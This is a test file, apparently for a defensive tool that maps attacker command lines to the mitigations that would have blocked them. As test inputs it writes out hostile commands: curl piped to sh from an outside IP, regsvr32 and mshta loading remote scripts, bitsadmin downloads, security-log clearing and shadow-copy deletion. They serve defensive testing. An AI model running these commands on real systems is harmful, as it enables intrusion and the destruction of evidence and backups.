import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../../src/catalog/load.ts";
import type { Payload } from "../../src/model/payload.ts";
import { curesOfEntry } from "../../src/pipeline/cures.ts";
import { curesOf } from "../../src/policies/cure/cure.ts";
import { generalSubject, withHost } from "../../src/policies/cure/general.ts";
import { TARGETS } from "../../src/policies/registry.ts";
import { whatran } from "../support/io.ts";
import { folder } from "../support/logs.ts";
import { hostile } from "./hostile.ts";

const catalog = builtinCatalog();

interface Answer {
  readonly invocations: readonly {
    readonly cures?: readonly {
      readonly target: string;
      readonly mitigation: string;
      readonly text: string;
      readonly doubt?: string;
      readonly cost?: { readonly times: number; readonly hosts: number };
    }[];
  }[];
}

const explained = async (line: string, ...more: readonly string[]) => {
  const { out, code, err } = await whatran(["explain", "-t", "json", ...more, line]);
  expect(code, err).toBe(0);
  return (JSON.parse(out) as Answer).invocations.flatMap(({ cures = [] }) => cures);
};

describe("what would have stopped it", () => {
  it("says of nothing that Windows does not bring that people need it every day", async () => {
    const { out } = await whatran(["catalog", "show", "windows/nc"]);
    expect(out.replace(/\s+/g, " ")).toContain("apart; where nobody needs the program, it can go");
    expect(out).not.toContain("every day");
  });

  it("names the file that ran where a program goes by several names", async () => {
    const told = await explained('bash -c "curl -s http://198.51.100.7/x | sh"', "--platform", "linux");
    const starts = told.filter(({ target }) => target === "auditd").map(({ text }) => text);
    expect(starts.join()).toContain("record each start of /bin/bash;");
  });

  it.each(["linux/history", "linux/export", "linux/memfd", "windows/copy", "windows/.shell"])(
    "names no rule about a program where there is none: %s",
    (id) => {
      const entry = catalog.byId(id)!;
      const name = `(?:^|[\\s/\\\\])${entry.name.replaceAll(".", "\\.")}(?:$|[\\s,;])`;
      const told = curesOfEntry(entry, catalog).flatMap(({ cures }) => cures.map(String));
      expect(told.filter((text) => new RegExp(name).test(text))).toEqual([]);
    },
  );

  it.each([
    [
      "rundll32.exe C:\\ProgramData\\u.dll,Start",
      "applocker",
      "M1038",
      "DLL rule that denies libraries in c:\\programdata\\",
    ],
    ["rundll32.exe C:\\ProgramData\\u.dll,Start", "appcontrol", "M1050", "inside rundll32.exe alone"],
    [
      "regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll",
      "appcontrol",
      "M1050",
      "keeps scrobj.dll out of regsvr32.exe",
    ],
    ["regsvr32 /s /i:http://203.0.113.9/a.sct scrobj.dll", "firewall", "M1037", "block what regsvr32.exe sends out"],
    [
      "bitsadmin /transfer j http://203.0.113.9/a.exe C:\\Users\\a\\a.exe",
      "firewall",
      "M1037",
      "the service BITS sends out",
    ],
    ["rundll32 \\\\203.0.113.9@80\\s\\a.dll,Start", "suricata", "M1037", "WebDAV"],
    ["msiexec /q /i C:\\Users\\ann\\p.msi", "applocker", "M1038", "Windows Installer rule"],
    ["pcalua.exe -a C:\\Users\\ann\\a.exe", "exploitprotection", "M1050", "no child processes"],
    ["mshta https://files.example.net/a.hta", "rpz", "M1021", "files.example.net is not there"],
    ["wmic process call create C:\\Users\\ann\\a.exe", "asr", "M1050", "PsExec and WMI"],
    ["wmic process call create C:\\Users\\ann\\a.exe", "features", "M1042", "remove the capability WMIC"],
    ["schtasks /create /tn a /tr C:\\Users\\ann\\a.exe", "applocker", "M1026", "leave schtasks.exe to administrators"],
    ["wevtutil cl Security", "applocker", "M1038", "deny wevtutil.exe to all who log on"],
    ["rundll32 payload,Start", "applocker", "M1038", "DLL rules that allow libraries of Windows"],
    ["split --filter=/tmp/x a.txt", "apparmor", "M1038", "/usr/bin/split"],
    ["split --filter=/tmp/x a.txt", "sudoers", "M1026", "NOEXEC"],
    ["split --filter=/tmp/x a.txt", "fapolicyd", "M1038", "/tmp/"],
    ["nmap --script /tmp/x.nse localhost", "packages", "M1042", "remove nmap"],
  ])("%s: %s (%s)", async (line, target, mitigation, text) => {
    const cures = await explained(line);
    expect(cures).toContainEqual(expect.objectContaining({ target, mitigation, text: expect.stringContaining(text) }));
  });

  it("names nothing for ordinary use of nothing on anybody’s behalf", async () => {
    expect(await explained("notepad.exe C:\\Users\\ann\\a.txt")).toEqual([]);
  });

  it("claims of no rule for groups that it stops who has administrative rights", async () => {
    const [group] = (await explained("schtasks /create /tn a /tr a.exe")).filter(
      ({ mitigation }) => mitigation === "M1026",
    );
    expect(group?.doubt).toContain("administrator");
    const rights = await explained("vssadmin delete shadows /all /quiet");
    expect(rights.map(({ mitigation }) => mitigation)).not.toContain("M1026");
    const binary = { name: "schtasks.exe", platform: "windows", entry: "windows/schtasks" } as const;
    const bySystem = curesOf({ binary, runs: [], fetches: [], user: "NT AUTHORITY\\SYSTEM" }, catalog);
    expect(bySystem.filter(({ target }) => target === "applocker")).toEqual([]);
  });

  it("leaves what everybody’s session needs to everybody", async () => {
    for (const line of ["rundll32 shell32.dll,Control_RunDLL", "explorer shell:::{0}", "cmd /c a.exe"])
      expect((await explained(line)).map(({ text }) => text).join("\n")).not.toMatch(/leave|log on/);
  });

  it("does not take a command that is kept for later for a child", async () => {
    const line = "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Users\\ann\\a.exe";
    expect((await explained(line)).map(({ target }) => target)).not.toContain("exploitprotection");
  });

  it("names a parent’s rule where the parent is known", async () => {
    const cures = await explained(
      "mshta http://files.example.net/a.hta",
      "--parent",
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    );
    expect(cures.map(({ target }) => target)).toContain("asr");
  });

  it("says what it would have cost, by a baseline", async () => {
    const dir = folder();
    try {
      const line = (at: number) =>
        JSON.stringify({
          SourceName: "Microsoft-Windows-Sysmon",
          EventID: 1,
          RecordNumber: at,
          Hostname: `pc-${at}`,
          "@timestamp": "2024-05-01T10:00:00Z",
          User: "CORP\\ann",
          Image: "C:\\Windows\\System32\\msdt.exe",
          OriginalFileName: "msdt.exe",
          CommandLine: "msdt.exe -id DeviceDiagnostic",
          ParentImage: "C:\\Windows\\explorer.exe",
          ProcessGuid: `{${String(at).padStart(8, "0")}-0000-0000-0000-000000000000}`,
        });
      const logs = dir.write("log.ndjson", `${[1, 2, 3].map(line).join("\n")}\n`);
      const baseline = `${logs}.baseline`;
      expect((await whatran(["learn", logs, "--baseline", baseline, "-q"])).code).toBe(0);
      const used = await explained("msdt.exe /cab C:\\Users\\ann\\a.diagcab", "--baseline", baseline);
      expect(used.find(({ text }) => text.includes("original file name"))?.cost).toMatchObject({ times: 3, hosts: 3 });
      const free = await explained("odbcconf /a {REGSVR C:\\Users\\a\\x.dll}", "--baseline", baseline);
      expect(free.find(({ text }) => text.includes("original file name"))?.cost).toMatchObject({ times: 0, hosts: 0 });
      const { out } = await whatran([
        "explain",
        "-t",
        "text",
        "--baseline",
        baseline,
        "msdt.exe /cab C:\\Users\\ann\\a.diagcab",
      ]);
      expect(out.replace(/\s+/g, " ")).toContain("here it would have stopped 3 ordinary events on 3 hosts");
    } finally {
      dir.remove();
    }
  });

  it("stands in the report and in cases", async () => {
    const dir = folder();
    try {
      const event = JSON.stringify({
        SourceName: "Microsoft-Windows-Sysmon",
        EventID: 1,
        RecordNumber: 1,
        Hostname: "pc-1",
        "@timestamp": "2024-05-01T10:00:00Z",
        Image: "C:\\Windows\\System32\\regsvr32.exe",
        OriginalFileName: "REGSVR32.EXE",
        CommandLine: "regsvr32.exe /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
        ProcessGuid: "{00000001-0000-0000-0000-000000000000}",
      });
      const logs = dir.write("log.ndjson", `${event}\n`);
      const { readFileSync } = await import("node:fs");
      await whatran(["scan", logs, "-o", `${logs}.html`, "-q"]);
      expect(readFileSync(`${logs}.html`, "utf8")).toContain("AppID pair that keeps scrobj.dll out of regsvr32.exe");
      const { out } = await whatran(["scan", logs, "--cases", "-t", "ndjson", "-q"]);
      const found = out
        .split("\n")
        .filter(Boolean)
        .map((line) => JSON.parse(line) as { schema: string; cures?: string[] });
      expect(found.find(({ schema }) => schema === "whatran/finding/1")?.cures).toBeUndefined();
      const [first] = found.filter(({ schema }) => schema === "whatran/case/1");
      if (first) expect(first.cures?.join("\n")).toContain("scrobj.dll");
    } finally {
      dir.remove();
    }
  });

  it("is listed by catalog show", async () => {
    const { out } = await whatran(["catalog", "show", "rundll32"]);
    expect(out).toContain("What stops");
    expect(out).toContain("DLL rule that denies libraries in the folder that it lies in");
    const json = JSON.parse((await whatran(["catalog", "show", "rundll32", "--json"])).out) as { cures: unknown[] };
    expect(json.cures.length).toBeGreaterThan(3);
    // What the same rules stop stands together.
    const sections = out
      .split(/^What stops /m)
      .slice(1)
      .map((text) => text.replace(/\s+/g, " ").replace(/^.*?” (?=M1)/, ""));
    expect(new Set(sections).size).toBe(sections.length);
  });

  it.each([
    [
      "windows/installutil",
      "Runs the installer classes of an assembly",
      ["DLL rule", "AppID pair"],
      ["executable rule", "no child"],
    ],
    ["windows/dotnet", "Carries out a script of C#", [], ["script rule", "text editor"]],
    ["windows/mshta", "Runs an HTML application", [".hta in a text editor"], ["script rule"]],
    ["windows/runonce", "Starts what the registry names to run once", [], ["no child"]],
  ])("names for %s (%s) what its product asks about, and nothing else", (id, title, named, others) => {
    const entry = catalog.byId(id);
    const cures = entry ? curesOfEntry(entry, catalog).find(({ behaviour }) => behaviour === title)?.cures : undefined;
    const text = cures?.join("\n") ?? "gone from the catalogue";
    for (const one of named) expect(text).toContain(one);
    for (const one of others) expect(text).not.toContain(one);
  });

  it("of a program that a package carried is a rule for the installer’s folder", () => {
    const subject = {
      binary: { name: "MSI4FFD.tmp", platform: "windows", path: "C:\\Windows\\Installer\\MSI4FFD.tmp" },
      behaviour: "windows/chains/follow-on-package-shell",
      runs: [],
      fetches: [],
      user: "CORP\\ann",
    } as const;
    expect(curesOf(subject, catalog).map(({ text }) => text)).toContainEqual(
      expect.stringContaining("packages carry for one use"),
    );
  });

  it("is said not to be there, and why, where there is none", async () => {
    const { out } = await whatran(["explain", "-t", "text", "rundll32.exe"]);
    expect(out.replace(/\s+/g, " ")).toContain("nothing here: Windows needs rundll32.exe");
    const shown = await whatran(["catalog", "show", "rundll32"]);
    expect(shown.out.replace(/\s+/g, " ")).toContain("nothing here: Windows needs rundll32.exe");
  });

  it("is known for most behaviours of the catalogue", () => {
    const all = catalog.entries.flatMap((entry) => curesOfEntry(entry, catalog));
    const known = all.filter(({ cures }) => cures.some((line) => !line.includes("audit rules")));
    expect(known.length / all.length).toBeGreaterThan(0.6);
  });

  it("names products that exist, and survives every payload", () => {
    const ids = new Set(TARGETS.map(({ id }) => id));
    const entries = catalog.entries.filter((_, at) => at % 9 === 0);
    const name = fc.stringMatching(/^[a-z0-9][\w.@ -]{0,24}$/);
    const payload = fc.record({
      what: fc.constantFrom<Payload["what"]>("library", "executable", "script", "package", "command", "document"),
      where: fc.constantFrom<Payload["where"]>("local", "share", "web", "inline"),
      value: fc.oneof(
        hostile,
        hostile.map((text) => `\\\\${text}`),
        hostile.map((text) => `http://${text}`),
        hostile.map((text) => `/${text}`),
        hostile.map((text) => `/tmp/${text}`),
        name.map((text) => `/srv/a b/${text}; id`),
        name.map((text) => `https://${text}/a`),
        name.map((text) => `http://www.${text}.Example.net`),
        name.map((text) => `d:\\a b\\${text}.exe`),
      ),
      remote: fc.boolean(),
    });
    fc.assert(
      fc.property(fc.constantFrom(...entries), fc.array(payload, { maxLength: 3 }), (entry, runs) => {
        const binary = { name: entry.name, platform: entry.platform, entry: entry.id };
        const cures = curesOf({ binary, runs, fetches: runs }, catalog);
        const subject = { binary, runs, fetches: runs };
        expect(curesOf(generalSubject(subject), catalog)).toEqual(cures);
        expect(withHost(curesOf(generalSubject(subject, true), catalog), subject)).toEqual(cures);
        for (const { target, mitigation } of cures) {
          expect(ids.has(target)).toBe(true);
          expect(mitigation).toMatch(/^M\d{4}$/);
        }
      }),
    );
  });
});
